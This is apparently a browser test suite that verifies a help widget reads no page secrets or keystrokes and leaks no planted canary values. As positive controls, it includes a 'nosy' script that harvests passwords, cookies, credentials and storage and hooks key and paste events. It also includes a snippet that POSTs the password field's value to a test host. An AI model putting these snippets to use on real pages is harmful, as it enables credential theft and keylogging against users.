import { CANARIES, canariesIn, storedText, watchCanaries } from '../../support/canaries.ts';
import type { Customer } from '../../support/customer.ts';
import type { Host, HostOptions } from '../../support/host.ts';
import { expect, test } from '../../support/host.ts';
import { listens, looks, watchAddress, watchLooks } from '../../support/looks.ts';
import { seen } from '../../support/watch.ts';
import { SENDING_BRAND, wholeJourney } from '../../support/whole-journey.ts';

/** A control from the widget's own origin that looks at everything. */
const NOSY = `{
  const field = document.querySelector('[name=password]');
  field.value;
  new FormData(field.form);
  document.querySelector('#area').value;
  document.querySelector('#choice').value;
  [document.cookie, document.forms, document.title, document.referrer, document.URL, document.baseURI];
  [navigator.credentials, localStorage.getItem('theirs'), localStorage.theirs, sessionStorage.length, history.state];
  for (const part of ['href', 'pathname', 'search', 'hash', 'origin']) location[part];
  String(location);
  for (const type of ['keydown', 'input', 'paste', 'submit']) {
    addEventListener(type, () => {});
    document.addEventListener(type, () => {});
  }
}`;
const FORM = `<form><textarea id="area"></textarea><select id="choice"><option>one</option></select></form>`;
const BY_HAND =
  /^(window|document) (key|input|beforeinput|textInput|change|composition|paste|copy|cut|submit|formdata)/;

test.describe('it never looks', () => {
  test('the whole journey: 0 reads of what is the page’s, 0 listeners to what is typed', async ({ host, page }) => {
    await watchLooks(page, host.files);
    const customer = await host.visit({ brand: SENDING_BRAND, before: FORM });
    await page.getByLabel('Password').fill('not to be read');
    await wholeJourney(customer, { message: 'In my own words' });
    expect(await looks(page)).toEqual([]);
    expect((await listens(page)).filter((line) => BY_HAND.test(line))).toEqual([]);
  });

  for (const attributes of ['', 'mode="inline"', 'content="/elsewhere/../"']) {
    test(`of its address the page’s origin alone is read: ${attributes || 'mode launcher'}`, async ({ host, page }) => {
      const release = host.hold('help-widget.js');
      await page.goto(host.put({ brand: SENDING_BRAND, attributes }), { waitUntil: 'commit' });
      await expect(page.getByLabel('Password')).toBeVisible();
      const address = await watchAddress(page, host.files);
      release();
      const customer = host.customer(SENDING_BRAND);
      if (attributes.startsWith('content')) {
        await customer.launcher.click();
        await expect(customer.launcher).toHaveText(/did not load/);
      } else await wholeJourney(customer);
      expect([...new Set(address.read)]).toEqual(attributes.startsWith('content') ? [] : ['origin']);
      await address.stop();
    });
  }

  test('the counters count: a script from the same place that looks', async ({ host, page }) => {
    await page.route(`${host.files}/nosy.js`, (route) => route.fulfill({ contentType: 'text/javascript', body: NOSY }));
    await watchLooks(page, host.files);
    await host.visit({ before: FORM });
    const address = await watchAddress(page, host.files);
    await page.addScriptTag({ url: `${host.files}/nosy.js` });
    expect(new Set(await looks(page))).toEqual(
      new Set([
        ...['HTMLInputElement.value', 'HTMLInputElement.form', 'HTMLTextAreaElement.value', 'HTMLSelectElement.value'],
        ...['FormData', 'Document.cookie', 'Document.forms', 'Document.title'],
        ...['Document.referrer', 'Document.URL', 'Node.baseURI', 'Navigator.credentials', 'localStorage.theirs'],
        ...['Storage.getItem', 'Storage.length', 'History.state'],
      ]),
    );
    expect(address.read).toEqual(['href', 'pathname', 'search', 'hash', 'origin', 'toString']);
    const types = ['keydown', 'input', 'paste', 'submit'];
    expect(await listens(page)).toEqual(
      expect.arrayContaining(types.flatMap((type) => [`window ${type}`, `document ${type}`])),
    );
    await address.stop();
  });
});

/** Comes from a page with a canary in its address to one that has canaries everywhere. */
async function amongCanaries(host: Host, options: HostOptions = {}): Promise<Customer> {
  const { page } = host;
  const path = `/sign-in/${CANARIES.path}`;
  host.put(
    {
      brand: SENDING_BRAND,
      head: `<meta name="referrer" content="unsafe-url"><script>document.title = '${CANARIES.title}'</script>`,
      ...options,
    },
    path,
  );
  const link = `<a href="${path}?next=${CANARIES.query}#${CANARIES.hash}">Sign in</a>`;
  await page.goto(host.serve(`/from/${CANARIES.referrer}`, `<!doctype html><title>From</title>${link}`));
  await page.getByRole('link').click();
  await page.getByLabel('Password').fill(CANARIES.password);
  await expect(page).toHaveTitle(CANARIES.title);
  expect(await page.evaluate(() => document.referrer)).toContain(CANARIES.referrer);
  return host.customer(SENDING_BRAND);
}

test.describe('canaries in the page', () => {
  test('0 bytes of them in requests, storage, events and console', async ({ host, page, context }) => {
    const cages = watchCanaries(context, host.site.origin);
    const customer = await amongCanaries(host, {
      script: '<script async src="{script}" crossorigin referrerpolicy="no-referrer"></script>',
    });
    const stored: string[] = [];
    await wholeJourney(customer, { message: 'In my own words' }, async () => stored.push(await storedText(page)));
    stored.push(await storedText(page));
    const events = JSON.stringify((await seen(page)).events);
    const bodies = JSON.stringify([host.desk.tickets, host.desk.arrived, host.widget.arrived]);

    expect(events).toContain('In my own words');
    expect(stored[0]).toContain('In my own words');
    expect(bodies).toContain('In my own words');
    expect(cages.requests.length).toBeGreaterThan(8);
    const places = { requests: [...cages.requests, bodies], stored, events: [events], console: cages.console };
    for (const [place, texts] of Object.entries(places)) expect(canariesIn(texts), place).toEqual([]);
  });

  test('they are found where a script does carry them off', async ({ host, page, context }) => {
    const cages = watchCanaries(context, host.site.origin);
    await amongCanaries(host);
    await page.evaluate(async (desk) => {
      const { value } = document.querySelector('[name=password]') as HTMLInputElement;
      sessionStorage.setItem('stolen', location.href);
      console.warn(btoa(`title: ${document.title}`));
      await fetch(desk, { method: 'POST', body: value, mode: 'no-cors' }).catch(() => {});
    }, host.desk.origin);
    await expect.poll(() => canariesIn(cages.requests)).toEqual(['password', 'path', 'query']);
    expect(canariesIn([await storedText(page)])).toEqual(['path', 'query', 'hash']);
    expect(canariesIn(cages.console)).toEqual(['title']);
  });
});
